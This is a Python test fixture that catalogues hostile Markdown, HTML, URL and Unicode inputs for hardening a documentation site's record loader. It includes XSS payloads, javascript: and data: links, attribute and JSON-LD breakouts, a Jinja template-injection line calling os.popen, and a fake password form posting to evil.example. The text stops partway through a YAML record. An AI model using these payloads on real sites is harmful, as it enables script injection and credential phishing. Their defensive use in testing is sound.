"""The attack corpus: record text and whole YAML files written by someone hostile.

Records arrive in pull requests from strangers, and their text is printed into Markdown
pages that python-markdown (attr_list, md_in_html, admonition, tables, toc, superfences,
highlight, details) turns into HTML, into table cells, headings, list items, attributes of
the page head and JSON-LD. Every value here is one that, rendered carelessly, would run
script, set an event handler or a style/class/id, load a script/data/vbscript URL, add an
element the site does not generate, cover the page, add headings or rules, or break out of
the structure around it.

For each vector a test does one of two things, and nothing else counts as passing:

* the loader refuses it, naming the file, the line and the field (``data/codes/404.yaml:12:
  faq[0].question: ...``), without a traceback, a hang or a crash; or
* the site builds and the vector is proven inert: no element, attribute, URL scheme or
  structure in the output that the templates themselves do not produce.

``FIELD_VECTORS`` go into text fields: kind ``"line"`` into one-line fields (``phrase``,
``summary``, ``use_when``, ``faq[].question``, ``examples[].title``, ...), kind ``"prose"``
into Markdown fields (``meaning``, ``when_to_use[]``, ``faq[].answer``, ...); a ``"line"``
vector is also fair game for a prose field. ``URL_VECTORS`` go into fields typed as a URL
(``vendors[].source``, ``specification.url``). ``YAML_DOCUMENTS`` are whole files for
``data/codes/404.yaml`` (``HostileYaml.raw`` gives the bytes to write).

The payload is ``alert(1)`` throughout, so a test can grep for it. Everything here is plain
data, ASCII-only source (non-ASCII characters are written as escapes) and deterministic.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal


@dataclass(frozen=True)
class HostileText:
    """A hostile value for one text field."""

    id: str
    text: str
    kind: Literal["line", "prose"]
    note: str


@dataclass(frozen=True)
class HostileYaml:
    """A hostile YAML file. ``data`` is set for byte-level cases; then ``text`` is empty."""

    id: str
    text: str
    note: str
    data: bytes | None = None

    @property
    def raw(self) -> bytes:
        """The bytes to write to the record file."""
        return self.data if self.data is not None else self.text.encode("utf-8")


def _line(id: str, text: str, note: str) -> HostileText:
    return HostileText(id, text, "line", note)


def _prose(id: str, text: str, note: str) -> HostileText:
    return HostileText(id, text, "prose", note)


# --------------------------------------------------------------------------- text fields

_ATTR_LIST = [
    _line(
        "attr-trailing-brace",
        "Not Found { onmouseover=alert(1) tabindex=0 }",
        "trailing attr_list on a heading, table cell or list line sets an event handler",
    ),
    _line(
        "attr-trailing-colon",
        "Not Found {: onclick=alert(1) }",
        "the {: } form of a trailing attribute list",
    ),
    _line(
        "attr-trailing-no-spaces",
        "Not Found {:onclick=alert(1)}",
        "attribute list with no spaces inside the braces",
    ),
    _line(
        "attr-trailing-wide-spacing",
        "Not Found    {:     onclick=alert(1)     }   ",
        "attribute list with runs of spaces inside and after it",
    ),
    _line(
        "attr-trailing-tabs",
        "Not Found\t{:\tonclick=alert(1)\t}",
        "tabs instead of spaces around the attribute list",
    ),
    _line(
        "attr-double-quoted",
        'Not Found {: onclick="alert(1)" }',
        "double-quoted attribute value",
    ),
    _line(
        "attr-single-quoted",
        "Not Found { onclick='alert(1)' }",
        "single-quoted attribute value (no double quote needed, passes a '\"' ban)",
    ),
    _line(
        "attr-style-cover",
        "Gone {: style=position:fixed;inset:0;z-index:9999;background:red onclick=alert(1) }",
        "unquoted style value that covers the whole page, plus a handler",
    ),
    _line(
        "attr-id-class",
        "Search {#__search .md-dialog .md-dialog--active onclick=alert(1)}",
        "#id and .class shorthands that collide with the theme's own ids and classes",
    ),
    _line(
        "attr-autofocus-onfocus",
        "Focus {: tabindex=0 autofocus onfocus=alert(1) }",
        "bare words become attributes: autofocus fires onfocus without any click",
    ),
    _line(
        "attr-data-md-component",
        "Widget {: data-md-component=dialog data-md-state=open onclick=alert(1) }",
        "data-md-* attributes that Material's JavaScript binds behaviour to",
    ),
    _line(
        "attr-unclosed-merges-with-template",
        "A title { onclick=alert(1)",
        "unclosed brace joins the template's own '{ data-search-exclude }' on a heading",
    ),
    _line(
        "attr-after-code-span",
        "Send `Retry-After`{: onclick=alert(1) style=position:fixed;inset:0 } when busy.",
        "inline attribute list on a code span: code spans pass the raw-HTML check",
    ),
    _line(
        "attr-after-emphasis",
        "This is *important*{ onmouseover=alert(1) } and **bold**{: onclick=alert(1) }.",
        "inline attribute lists on em and strong",
    ),
    _line(
        "attr-link-href-override",
        '[the spec](https://example.com){: href="javascript:alert(1)" }',
        "a safe-looking link whose href an attribute list replaces with javascript:",
    ),
    _line(
        "attr-link-href-unquoted",
        "[docs](https://example.com){href=javascript:alert(1) target=_blank}",
        "unquoted javascript: href override and a target",
    ),
    _line(
        "attr-link-srcdoc-formaction",
        "[x](https://example.com){: formaction=javascript:alert(1) ping=https://evil.example/ }",
        "other URL-carrying attributes (formaction, ping) on a link",
    ),
    _prose(
        "attr-own-line-after-paragraph",
        'A normal paragraph about the code.\n{: onclick="alert(1)" }',
        "block attribute list on its own line after a paragraph",
    ),
    _prose(
        "attr-own-line-style",
        "Paragraph.\n{: style=\"position:fixed;inset:0;background:red\" onclick='alert(1)' }",
        "block attribute list that turns the paragraph into a page-covering overlay",
    ),
    _prose(
        "attr-own-line-id-class",
        "Paragraph.\n{#__drawer .md-overlay onclick=alert(1)}",
        "block #id/.class that hijack the theme's drawer and overlay",
    ),
    _prose(
        "attr-table-cell",
        "| Code | Note |\n|---|---|\n| 404 | gone { onclick=alert(1) } |",
        "attribute list at the end of a table cell applies to the td",
    ),
    _prose(
        "attr-list-item-nested",
        "Point one.\n\n- inner item\n{: onclick=alert(1) }",
        "attribute list on a nested list item",
    ),
]

_REFERENCE_LINKS = [
    _prose(
        "refdef-javascript",
        "See [the spec][1].\n\n[1]: javascript:alert(1)",
        "reference-style definition: no '](' for a link-target check to see",
    ),
    _prose(
        "refdef-with-title",
        'Read [this][1].\n\n[1]: javascript:alert(1) "The RFC"',
        "reference definition with a title",
    ),
    _prose(
        "refdef-angle-brackets",
        "Read [this][1].\n\n[1]: <javascript:alert(1)>",
        "reference definition with the target in angle brackets",
    ),
    _prose(
        "refdef-shortcut",
        "Read [click here].\n\n[click here]: javascript:alert(1)",
        "shortcut reference: the link text is the label",
    ),
    _prose(
        "refdef-collapsed",
        "Read [click here][].\n\n[Click Here]: javascript:alert(1)",
        "collapsed reference with a case-insensitive label",
    ),
    _prose(
        "refdef-mixed-case",
        "Read [this][1].\n\n[1]: JaVaScRiPt:alert(1)",
        "mixed-case scheme defeats a case-sensitive check",
    ),
    _prose(
        "refdef-entity-s",
        "Read [this][1].\n\n[1]: java&#115;cript:alert(1)",
        "decimal entity inside the scheme: markdown keeps it, the browser decodes it",
    ),
    _prose(
        "refdef-hex-entity",
        "Read [this][1].\n\n[1]: &#x6A;avascript:alert(1)",
        "hex entity for the first letter of the scheme",
    ),
    _prose(
        "refdef-entity-colon",
        "Read [this][1].\n\n[1]: javascript&colon;alert(1)",
        "HTML5 named entity for the colon",
    ),
    _prose(
        "refdef-entity-tab",
        "Read [this][1].\n\n[1]: java&#x09;script:alert(1)",
        "entity-encoded tab inside the scheme; URL parsers drop tabs",
    ),
    _prose(
        "refdef-leading-whitespace",
        "Read [this][1].\n\n[1]:   \t  javascript:alert(1)",
        "spaces and a tab before the target",
    ),
    _prose(
        "refdef-target-on-next-line",
        "Read [this][1].\n\n[1]:\n    javascript:alert(1)",
        "the target on the line after the label",
    ),
    _prose(
        "refdef-control-char",
        "Read [this][1].\n\n[1]: \x01javascript:alert(1)",
        "leading C0 control: not whitespace to markdown, stripped by the browser's URL parser",
    ),
    _prose(
        "refdef-percent-encoded",
        "Read [this][1].\n\n[1]: %6A%61vascript:alert(1)",
        "percent-encoded scheme (inert in browsers, but confuses decode-then-check code)",
    ),
    _prose(
        "refdef-data-url",
        "Read [this][1].\n\n[1]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data: URL carrying <script>alert(1)</script> in base64",
    ),
    _prose(
        "refdef-vbscript",
        "Read [this][1].\n\n[1]: vbscript:alert(1)",
        "vbscript: scheme",
    ),
    _prose(
        "refdef-image",
        "![status][img]\n\n[img]: https://example.com/x.png?alert(1)",
        "an image through a reference definition: an element the site does not generate",
    ),
    _prose(
        "refdef-definition-only",
        "[evil]: javascript:alert(1)",
        "only the definition; put 'refdef-use-only' in another field of the same page",
    ),
    _line(
        "refdef-use-only",
        "Read [the details][evil] first.",
        "only the use; the definition ('refdef-definition-only') sits in another field",
    ),
]

_INLINE_LINKS = [
    _line("link-javascript", "[x](javascript:alert(1))", "inline javascript: link"),
    _line(
        "link-javascript-padded",
        "[x](   javascript:alert(1)   )",
        "spaces around the target",
    ),
    _line(
        "link-javascript-angle",
        "[x](<javascript:alert(1)>)",
        "target in angle brackets",
    ),
    _line(
        "link-javascript-entity",
        "[x](java&#115;cript:alert(1))",
        "entity inside an inline link's scheme",
    ),
    _line(
        "link-javascript-uppercase",
        "[x](JAVASCRIPT:alert(1))",
        "uppercase scheme",
    ),
    _line(
        "link-data-html",
        "[x](data:text/html,<script>alert(1)</script>)",
        "data: URL with HTML",
    ),
    _line(
        "link-target-in-code-span",
        "[x](`javascript:alert(1)`)",
        "target written as a code span: a check that strips code first sees an empty target",
    ),
    _line(
        "link-escaped-backticks",
        r"\`[x](javascript:alert(1))\`",
        "escaped backticks look like a code span to a regex, are literal to markdown",
    ),
    _line(
        "link-space-before-paren",
        "[x] (javascript:alert(1))",
        "space between ] and ( : no '](' for a check, a link to some renderers",
    ),
    _line(
        "link-title-breakout",
        '[x](https://example.com "t" onmouseover="alert(1)")',
        "extra attribute after the title",
    ),
    _line(
        "link-unquoted-extra",
        "[x](https://example.com/ onclick=alert(1))",
        "a space in the target followed by attribute-like text",
    ),
    _line(
        "link-quote-in-target",
        '[x](https://example.com/"onmouseover="alert(1))',
        "double quotes inside the target try to leave the href attribute",
    ),
    _line(
        "link-nested",
        "[[x](https://example.com)](javascript:alert(1))",
        "a link inside a link's text, the outer one to javascript:",
    ),
    _line(
        "link-text-looks-like-url",
        "[https://www.rfc-editor.org/rfc/rfc9110](https://evil.example/alert(1))",
        "link text that names a trusted URL, target elsewhere",
    ),
    _line(
        "image-javascript",
        "![x](javascript:alert(1))",
        "image with a javascript: source",
    ),
    _line(
        "image-external",
        "![x](https://example.com/x.png)",
        "an image the site does not generate: tracking pixel, page-covering picture",
    ),
    _line(
        "image-external-onerror",
        "![x](https://example.com/missing.png){: onerror=alert(1) }",
        "https image that passes a target check, with onerror from an attribute list",
    ),
    _line(
        "image-external-cover",
        "![x](https://example.com/x.png){: style=position:fixed;inset:0;width:100vw }",
        "an image stretched over the whole viewport",
    ),
    _line(
        "autolink-javascript",
        "<javascript:alert(1)>",
        "angle-bracket autolink with javascript:",
    ),
    _line(
        "autolink-quote-breakout",
        '<https://example.com" onmouseover="alert(1)>',
        "https autolink whose text tries to close the href attribute",
    ),
    _line(
        "autolink-tag-inside",
        "<https://example.com/<img src=x onerror=alert(1)>>",
        "an https autolink wrapped around a tag",
    ),
    _line(
        "autolink-mailto-breakout",
        '<mailto:x@example.com" onmouseover="alert(1)>',
        "mailto autolink with an attribute breakout",
    ),
]

_RAW_HTML = [
    _line("html-script", "<script>alert(1)</script>", "plain script element"),
    _line("html-script-uppercase", "<SCRIPT>alert(1)</SCRIPT>", "uppercase tag name"),
    _line("html-script-mixed-case", "<ScRiPt >alert(1)</sCrIpT >", "mixed case, space"),
    _line(
        "html-escaped-backticks",
        r"\`<script>alert(1)</script>\`",
        "escaped backticks: a regex sees a code span, markdown sees raw HTML",
    ),
    _line(
        "html-unbalanced-code-span",
        "``a`<img src=x onerror=alert(1)>`",
        "backtick runs that a regex and markdown pair up differently",
    ),
    _line(
        "html-code-span-then-tag",
        "`` ` `` <img src=x onerror=alert(1)> `",
        "a double-backtick span around a single backtick, then a stray one",
    ),
    _prose(
        "html-tilde-not-a-fence",
        "Before.\n~~~ this line is prose, not a fence\n<img src=x onerror=alert(1)>\n~~~",
        "a '~~~' line a regex takes for a fence, markdown for text, hiding a tag",
    ),
    _prose(
        "html-backtick-not-a-fence",
        "Before.\n``` not a fence: it has a `backtick`\n<img src=x onerror=alert(1)>\n```",
        "a backtick fence opener that is invalid (backtick in the info string)",
    ),
    _prose(
        "html-indented-block",
        "Intro.\n\n    <img src=x onerror=alert(1)>\n\nAfter.",
        "HTML in an indented code block: inert as code, but not once indentation changes",
    ),
    _prose(
        "html-indented-in-list",
        "Item.\n\n  <img src=x onerror=alert(1)>",
        "two-space indented HTML that a list template re-indents",
    ),
    _line(
        "html-details-ontoggle",
        "<details open ontoggle=alert(1)>",
        "details element whose toggle handler fires on load",
    ),
    _line("html-svg-onload", "<svg onload=alert(1)>", "svg with onload"),
    _line(
        "html-svg-animate",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "SVG animation event",
    ),
    _line(
        "html-math",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "MathML namespace confusion",
    ),
    _line("html-img-onerror", "<img src=x onerror=alert(1)>", "image error handler"),
    _line(
        "html-img-slashes",
        "<img/src=x/onerror=alert(1)>",
        "slashes instead of spaces between attributes",
    ),
    _line(
        "html-iframe",
        '<iframe src="javascript:alert(1)"></iframe>',
        "iframe with a javascript: source",
    ),
    _line(
        "html-object-embed",
        '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
        "object and embed",
    ),
    _line(
        "html-style",
        "<style>body{display:none}</style>alert(1)",
        "style element that hides the page",
    ),
    _line(
        "html-link-stylesheet",
        '<link rel="stylesheet" href="https://evil.example/alert(1).css">',
        "external stylesheet",
    ),
    _line(
        "html-meta-refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        "meta refresh redirect",
    ),
    _line(
        "html-base",
        '<base href="https://evil.example/alert(1)/">',
        "base element re-targets every relative link and script",
    ),
    _line(
        "html-form",
        '<form action="https://evil.example/"><input name=pw autofocus onfocus=alert(1)>'
        "<button>Log in</button></form>",
        "phishing form with input and button",
    ),
    _line(
        "html-template",
        "<template><img src=x onerror=alert(1)></template>",
        "template element",
    ),
    _line(
        "html-anchor-javascript",
        '<a href="javascript:alert(1)">x</a>',
        "raw anchor with javascript:",
    ),
    _line(
        "html-div-cover",
        '<div style="position:fixed;inset:0;z-index:9999;background:#fff">alert(1)</div>',
        "raw div that covers the page",
    ),
    _prose(
        "html-comment-hides",
        "Visible text.\n<!-- hidden from the rendered diff: alert(1) -->\nMore text.",
        "HTML comment hiding content from a reviewer's preview",
    ),
    _prose(
        "html-comment-unclosed",
        "Text.\n\n<!-- the rest of the page disappears alert(1)",
        "unclosed comment that swallows everything after it",
    ),
    _line(
        "html-cdata",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "CDATA section",
    ),
    _line(
        "html-processing-instruction",
        '<?xml-stylesheet href="javascript:alert(1)"?>',
        "processing instruction",
    ),
    _line(
        "html-declaration",
        "<!DOCTYPE html><img src=x onerror=alert(1)>",
        "markup declaration",
    ),
    _prose(
        "html-md-in-html",
        '<div markdown="1" style="position:fixed;inset:0" onclick="alert(1)">\n\n'
        "**Your session expired.**\n\n</div>",
        "md_in_html block: raw div with style and handler, Markdown inside",
    ),
    _prose(
        "html-md-in-html-span",
        '<span markdown="span" onmouseover="alert(1)">*hover*</span>',
        "md_in_html span-level",
    ),
    _line(
        "html-entity-encoded",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "entity-encoded tag: must show as text (this one is fine if it does)",
    ),
    _line(
        "html-double-encoded",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "double-encoded: must not be decoded twice",
    ),
    _line(
        "html-backslash-escaped",
        r"\<script>alert(1)</script>",
        "backslash before the tag",
    ),
    _prose(
        "html-split-across-lines",
        "<img\nsrc=x\nonerror=alert(1)\n>",
        "a tag split across lines",
    ),
    _line(
        "html-in-table-cell",
        "a cell <img src=x onerror=alert(1)> here",
        "inline HTML in a one-line field printed into a table cell",
    ),
]

_STRUCTURE = [
    _line(
        "heading-hash-line",
        "# alert(1) Second title",
        "a one-line field that starts a line in the page becomes an h1",
    ),
    _line(
        "heading-hash-closing",
        "## alert(1) ##",
        "closed ATX heading",
    ),
    _line(
        "heading-hash-attr",
        "### Fake FAQ { #__search onclick=alert(1) }",
        "heading with an attribute list",
    ),
    _prose(
        "heading-second-h1",
        "Intro.\n\n# alert(1) Second title",
        "a second h1 on the page",
    ),
    _prose(
        "heading-h2",
        "Intro.\n\n## Fake section alert(1)\n\nText.",
        "an h2 that becomes a table-of-contents entry",
    ),
    _prose(
        "heading-setext-h1",
        "Fake title alert(1)\n=====",
        "setext h1",
    ),
    _prose(
        "heading-setext-h2",
        "Fake section alert(1)\n-----",
        "setext h2 (a dash underline, easily mistaken for a rule)",
    ),
    _line("hr-dashes", "---", "a one-line field that is a horizontal rule"),
    _line("hr-stars", "***", "a rule made of stars"),
    _line("hr-spaced", "- - -", "a spaced rule that also looks like a list"),
    _prose(
        "hr-in-prose",
        "Above.\n\n***\n\n___\n\nBelow alert(1).",
        "horizontal rules in prose",
    ),
    _prose(
        "front-matter",
        "---\ntitle: alert(1)\ntemplate: 404.html\n---\nText.",
        "a prose field that starts with a YAML front-matter block",
    ),
    _prose(
        "fence-unclosed",
        "Start:\n\n```\nthe rest of the page becomes code alert(1)",
        "unclosed backtick fence that would swallow the rest of the page",
    ),
    _prose(
        "fence-unclosed-tilde",
        "Start:\n\n~~~~\nthe rest of the page becomes code alert(1)",
        "unclosed tilde fence",
    ),
    _prose(
        "fence-options-onclick",
        '```http title="x" onclick="alert(1)"\nGET / HTTP/1.1\n```',
        "fence options with an event handler",
    ),
    _prose(
        "fence-brace-attrs",
        '``` { .http #__search onclick="alert(1)" style="position:fixed;inset:0" }\n'
        "GET / HTTP/1.1\n```",
        "superfences brace attributes: with attr_list on, arbitrary attributes are kept",
    ),
    _prose(
        "fence-title-breakout",
        '```http title="x\'><img src=x onerror=alert(1)>"\nGET / HTTP/1.1\n```',
        "fence title that tries to leave the title element",
    ),
    _prose(
        "fence-longer-closer",
        "````\n```\n<script>alert(1)</script>\n````",
        "inner shorter fence: regex and markdown disagree on where the code ends",
    ),
    _prose(
        "admonition-danger",
        '!!! danger "Your account is compromised"\n    Call alert(1) at once.',
        "admonition the site does not generate, phishing-style",
    ),
    _prose(
        "admonition-theme-classes",
        '!!! md-dialog md-dialog--active "alert(1)"\n    Covering text.',
        "admonition type words become classes on the block",
    ),
    _prose(
        "details-collapsed",
        '??? note "Click me"\n    hidden alert(1)',
        "collapsible details block",
    ),
    _prose(
        "details-open",
        '???+ danger "Open"\n    shown alert(1)',
        "details block that starts open",
    ),
    _prose(
        "table",
        "| a | b |\n|---|---|\n| alert(1) | d |",
        "a table the site does not generate",
    ),
    _prose(
        "table-html-cell",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "raw HTML inside a table cell",
    ),
    _prose(
        "toc-marker",
        "[TOC]",
        "the toc extension's marker inserts a table of contents",
    ),
    _prose(
        "blockquote",
        "> **Security notice:** visit evil.example alert(1)",
        "a blockquote the site does not generate",
    ),
    _prose(
        "list-item-breakout",
        "First paragraph.\n\nSecond paragraph at column 0 escapes the list item alert(1).",
        "a second paragraph that an indent(2) list template leaves outside the li",
    ),
    _prose(
        "list-new-items",
        "Only item.\n- injected item alert(1)\n- another",
        "lines starting with '- ' add items to the surrounding list",
    ),
]

_BREAKOUTS = [
    _line("pipe-plain", "a | b | alert(1)", "pipes in a one-line field printed into a cell"),
    _line(
        "pipe-pre-escaped",
        r"a \| b \\| alert(1)",
        "already-escaped pipe: escaping again leaves '\\\\|', a real column break",
    ),
    _line("pipe-in-code-span", "`a | b` alert(1)", "pipe inside a code span in a cell"),
    _line(
        "newline-cr",
        "one line\r# alert(1)\r| x | y |",
        "a bare CR: not '\\n' to a single-line check, a newline to markdown",
    ),
    _line(
        "newline-crlf",
        "one line\r\n---",
        "CRLF line break",
    ),
    _line(
        "newline-vt-ff",
        "one line\x0b\x0c# alert(1)",
        "vertical tab and form feed",
    ),
    _line(
        "newline-nel",
        "one line\x85# alert(1)",
        "NEL (U+0085), a line break to YAML 1.1 and str.splitlines",
    ),
    _line(
        "newline-line-separator",
        "one line\u2028# alert(1)\u2029",
        "U+2028/U+2029, line breaks to YAML, splitlines and old JavaScript",
    ),
    _line("jinja-expression", "{{ 7*7 }} alert(1)", "Jinja expression: must not print 49"),
    _line(
        "jinja-ssti",
        "{{ cycler.__init__.__globals__.os.popen('echo alert(1)').read() }}",
        "Jinja server-side template injection",
    ),
    _line("jinja-raw", "{% raw %}alert(1){% endraw %}", "Jinja raw block"),
    _line(
        "jinja-unterminated",
        "{% if true %}alert(1) {# comment",
        "unterminated Jinja tags: a second rendering would crash",
    ),
    _line(
        "jsonld-script-close",
        "</script><script>alert(1)</script>",
        "closes the JSON-LD script element",
    ),
    _line(
        "jsonld-script-close-case",
        "</SCRIPT ><script>alert(1)</script >",
        "uppercase and spaced closing tag",
    ),
    _line(
        "jsonld-comment-open",
        "<!--<script>alert(1)</script>",
        "'<!--' inside a script changes how the HTML parser finds its end",
    ),
    _line(
        "jsonld-line-separators",
        "a\u2028b\u2029alert(1)",
        "U+2028/2029 inside a JSON string",
    ),
    _line(
        "jsonld-backslash-quote",
        'a\\", "@type": "alert(1)',
        "a JSON string breakout by quote and backslash",
    ),
    _line(
        "attr-breakout-double",
        '" onmouseover="alert(1)',
        "leaves a double-quoted attribute (meta description, title)",
    ),
    _line(
        "attr-breakout-single",
        "' autofocus onfocus='alert(1)",
        "leaves a single-quoted attribute",
    ),
    _line(
        "attr-breakout-tag",
        '"><img src=x onerror=alert(1)>',
        "leaves the attribute and the tag",
    ),
    _line(
        "attr-breakout-backtick",
        "` onmouseover=alert(1) x=`",
        "backtick-quoted attribute (old IE), also an unbalanced code span",
    ),
    _line(
        "attr-breakout-entity",
        "&quot; onmouseover=&quot;alert(1)",
        "an entity that a decode-then-print step turns into a quote",
    ),
    _line(
        "attr-breakout-unquoted",
        "x onmouseover=alert(1)",
        "for an unquoted attribute value",
    ),
]

_UNICODE = [
    _line(
        "bidi-rlo",
        "Safe text \u202e)1(trela\u202c tail",
        "right-to-left override reverses what a reviewer sees",
    ),
    _line(
        "bidi-isolates",
        "a\u2066b\u2067c\u2068d\u2069 alert(1)",
        "bidi isolates U+2066 to U+2069",
    ),
    _line(
        "bidi-unterminated",
        "\u202eNot Found",
        "unterminated override that flips the text after the field",
    ),
    _line(
        "zero-width",
        "Not\u200bFound\u200c\u200d\u2060\ufeff alert(1)",
        "zero-width characters that split search terms and hide differences",
    ),
    _line(
        "zero-width-in-scheme",
        "[x](java\u200bscript:alert(1))",
        "zero-width space inside a scheme",
    ),
    _line("nul", "a\x00b alert(1)", "NUL byte in text"),
    _line(
        "charref-escape",
        "Red &#27;[31mtext&#27;[0m and a bell &#7; alert(1)",
        "ANSI escapes written as character references: Markdown writes out the controls",
    ),
    _line(
        "charref-bidi",
        "Safe text &#x202E;)1(trela&#x202C; tail",
        "a right-to-left override written as a character reference",
    ),
    _line(
        "c0-controls",
        "a\x01\x07\x08\x1b[2J\x1b]0;pwned\x07\x7f alert(1)",
        "C0 controls and ANSI escapes that rewrite a terminal when echoed in an error",
    ),
    _line(
        "nul-inside-tag",
        "<scr\x00ipt>alert(1)</script>",
        "NUL inside a tag name",
    ),
    _line(
        "fullwidth-digit-link",
        "[x](/\uff12\uff10\uff10.md)",
        "fullwidth digits match \\d and \\w: passes a link check, is no page",
    ),
    _line(
        "homoglyph-url",
        "[nginx docs](https://ngi\u0578x.org/alert(1))",
        "Armenian letter that looks like n in a link target",
    ),
    _line(
        "homoglyph-cyrillic",
        "[RFC 9110](https://www.rfc-edit\u043er.org/rfc/rfc9110)",
        "Cyrillic o in a trusted-looking host",
    ),
    _line(
        "combining-overflow",
        "Z" + "\u0336\u0489" * 120 + " alert(1)",
        "stacked combining marks that paint over neighbouring lines",
    ),
    _line(
        "tag-characters",
        "Not Found\U000e0061\U000e006c\U000e0065\U000e0072\U000e0074",
        "invisible Unicode tag characters (hidden text for machines)",
    ),
]

_INTERNAL_LINKS = [
    _line("internal-missing-page", "[x](/999.md)", "a page that does not exist"),
    _line("internal-missing-anchor", "[x](/404.md#nope)", "an anchor that does not exist"),
    _line("internal-missing-local-anchor", "[x](#nope)", "a same-page anchor that does not exist"),
    _line(
        "internal-traversal",
        "[x](/../../etc/passwd.md)",
        "path traversal out of the docs folder",
    ),
    _line(
        "internal-traversal-encoded",
        "[x](/%2e%2e/%2e%2e/etc/passwd.md)",
        "percent-encoded traversal",
    ),
    _line(
        "internal-protocol-relative",
        "[x](//evil.example/x)",
        "protocol-relative URL to another host",
    ),
    _line(
        "internal-protocol-relative-md",
        "[x](//2130706433/alert.md)",
        "protocol-relative with a decimal IPv4 host: matches '/[\\w/-]+\\.md'",
    ),
    _line(
        "internal-backslash",
        r"[x](/\evil.example/x)",
        "browsers read '/\\' as '//': another host",
    ),
    _line(
        "internal-double-backslash",
        r"[x](\\evil.example\x.md)",
        "UNC-style backslashes",
    ),
    _line(
        "internal-outside-docs",
        "[x](/../mkdocs.md)",
        "a file beside the docs folder",
    ),
    _line(
        "internal-target-blank",
        "[x](/404.md){: target=_blank }",
        "an internal link that opens a new window (attribute list)",
    ),
    _line(
        "internal-query",
        "[x](/404.md?alert(1))",
        "an internal link with a query string",
    ),
]

FIELD_VECTORS: list[HostileText] = [
    *_ATTR_LIST,
    *_REFERENCE_LINKS,
    *_INLINE_LINKS,
    *_RAW_HTML,
    *_STRUCTURE,
    *_BREAKOUTS,
    *_UNICODE,
    *_INTERNAL_LINKS,
]

# --------------------------------------------------------------------------- URL fields

URL_VECTORS: list[HostileText] = [
    _line(
        "url-paren-attr-list",
        "https://github.com/nginx/nginx){:onclick=alert(1)}",
        "closes the Markdown link the template writes, then adds an attribute list",
    ),
    _line(
        "url-paren-href-override",
        "https://example.com/){:href=javascript:alert(1)}",
        "closes the link and replaces its href",
    ),
    _line(
        "url-paren-style",
        "https://example.com/){:style=position:fixed;inset:0;z-index:9999}",
        "closes the link and makes it cover the page",
    ),
    _line(
        "url-paren-new-link",
        "https://example.com/)[click](javascript:alert(1)",
        "closes the link and opens a second one to javascript:",
    ),
    _line(
        "url-bracket-link",
        "https://example.com/](javascript:alert(1))",
        "a URL containing '](javascript:'",
    ),
    _line(
        "url-paren-image",
        "https://example.com/)![x](https://example.com/x.png){:onerror=alert(1)}",
        "closes the link and adds an image with onerror",
    ),
    _line(
        "url-double-quote",
        'https://example.com/"onmouseover="alert(1)',
        "double quotes to leave the href attribute",
    ),
    _line(
        "url-single-quote",
        "https://example.com/'onmouseover='alert(1)",
        "single quotes to leave the href attribute",
    ),
    _line(
        "url-entity-quote",
        "https://example.com/&quot;onmouseover=&quot;alert(1)",
        "entity-encoded quotes",
    ),
    _line(
        "url-javascript-comment",
        "javascript:alert(1)//https://",
        "javascript: with an https tail for a contains-check",
    ),
    _line(
        "url-javascript-newline-https",
        "javascript:alert(1)\nhttps://example.com/",
        "javascript: first line, https second: a multi-line regex '^' matches",
    ),
    _line(
        "url-script-tag",
        "https://example.com/<script>alert(1)</script>",
        "a tag in the path",
    ),
    _line(
        "url-backslash",
        "https:/\\evil.example/alert(1)",
        "https:/\\ is https:// to a browser",
    ),
    _line(
        "url-double-backslash",
        "https:\\\\evil.example\\alert(1)",
        "backslashes instead of slashes",
    ),
    _line(
        "url-userinfo",
        "https://user:pass@example.com/",
        "credentials in the URL",
    ),
    _line(
        "url-userinfo-deceptive",
        "https://nginx.org@evil.example/alert(1)",
        "a trusted name as userinfo, the real host after '@'",
    ),
    _line(
        "url-space",
        "https://exa mple.com/ onclick=alert(1)",
        "a space inside",
    ),
    _line(
        "url-tab",
        "https://example.com/\talert(1)",
        "a tab inside (URL parsers drop it silently)",
    ),
    _line(
        "url-trailing-newline",
        "https://example.com/\n",
        "a trailing newline: Python's '$' matches before it",
    ),
    _line(
        "url-newline-link",
        "https://example.com/\n[x](javascript:alert(1))",
        "a newline and a second line of Markdown",
    ),
    _line(
        "url-cr",
        "https://example.com/\r# alert(1)",
        "a bare CR",
    ),
    _line("url-ipv6-unclosed", "http://[::1", "unclosed IPv6 literal: urlsplit raises"),
    _line("url-ipv6-bad", "http://[::1]:99999/", "port out of range"),
    _line("url-empty-host", "https://", "no host at all"),
    _line("url-paren-only", "https://)", "a host that is a closing parenthesis"),
    _line(
        "url-decimal-ip",
        "http://2130706433/admin",
        "decimal IPv4 (127.0.0.1): SSRF for a link checker",
    ),
    _line(
        "url-homoglyph-host",
        "https://ngi\u0578x.org/",
        "homoglyph host",
    ),
    _line(
        "url-bidi",
        "https://example.com/\u202egnp.exe",
        "right-to-left override in the path",
    ),
    _line("url-nul", "https://example.com/\x00alert(1)", "NUL inside"),
    _line("url-pipe", "https://example.com/a|b|alert(1)", "pipes for a table cell"),
    _line("url-backtick", "https://example.com/`alert(1)`", "backticks around part of it"),
    _line(
        "url-jinja",
        "https://example.com/{{7*7}}{%raw%}",
        "template syntax",
    ),
    _line(
        "url-long-8k",
        "https://example.com/" + "a" * 8192,
        "8 KiB: longer than many servers accept",
    ),
    _line(
        "url-long-100k",
        "https://example.com/?q=" + "ab" * 50_000,
        "100 KB of URL in one line",
    ),
    _line(
        "url-long-parens",
        "https://example.com/" + "(" * 2000 + ")" * 2000,
        "thousands of nested parentheses for a link parser's balance counting",
    ),
]

# --------------------------------------------------------------------------- YAML files

# A valid 404 record (valid in a data set that also holds 200) without ``related``,
# ``headers`` or ``constants``: the documents below append those fields or edit a line.
BASE_RECORD = """\
code: 404
phrase: Not Found
summary: Summary of 404 for tests.
use_when: You need 404.
meaning: Meaning of 404.
when_to_use:
  - When 404 fits.
when_not_to_use:
  - case: When another code fits.
    instead: [200]
examples:
  - title: A 404 exchange
    steps:
      - request: |
          GET /thing HTTP/1.1
          Host: example.com
        response: |
          HTTP/1.1 404 Not Found
          Content-Length: 5

          Hello
